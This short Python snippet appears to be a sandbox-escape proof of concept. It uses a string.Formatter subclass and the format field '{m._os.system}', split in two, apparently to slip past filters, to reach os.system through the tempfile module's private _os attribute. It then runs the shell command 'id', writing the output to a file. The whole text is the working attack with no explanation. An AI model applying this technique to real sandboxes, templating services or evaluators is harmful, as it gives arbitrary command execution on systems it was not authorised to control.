from string import Formatter
import tempfile
class F(Formatter):
    def convert_field(self, value, conversion):
        return value("id>pf")
F().vformat("{m._" + "os.system}", (), {"m": tempfile})
